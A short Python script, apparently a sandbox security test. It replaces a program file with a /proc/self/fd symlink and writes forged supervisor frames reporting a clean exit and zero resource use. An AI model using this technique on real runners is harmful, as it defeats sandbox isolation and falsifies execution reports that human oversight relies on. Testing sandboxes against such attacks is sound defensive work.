"""Links to "whatever the reader has open": who follows one reads or writes its own channel.

The program's own text becomes such a link, and what is then written to it looks like the words of init.
"""

import os
import struct

import attack

EXITED, EMPTY, DONE = 9, 10, 14

for number in range(16):
    os.symlink(f"/proc/self/fd/{number}", f"descriptor-{number}")
os.remove("../pkg/main.py")
os.symlink(f"/proc/self/fd/{attack.PARAMETERS['descriptor']}", "../pkg/main.py")

forged = b""
for kind, payload in (
    (EXITED, b'{"code":0,"signal":null,"deadline":false}'),
    (EMPTY, b'{"killed":0,"millis":0}'),
    (DONE, b'{"cpuMillis":0,"peakMemoryBytes":0,"storageFull":false,"truncated":false}'),
):
    forged += struct.pack(">IB", 1 + len(payload), kind) + payload
descriptor = os.open("../pkg/main.py", os.O_WRONLY)
os.write(descriptor, forged)
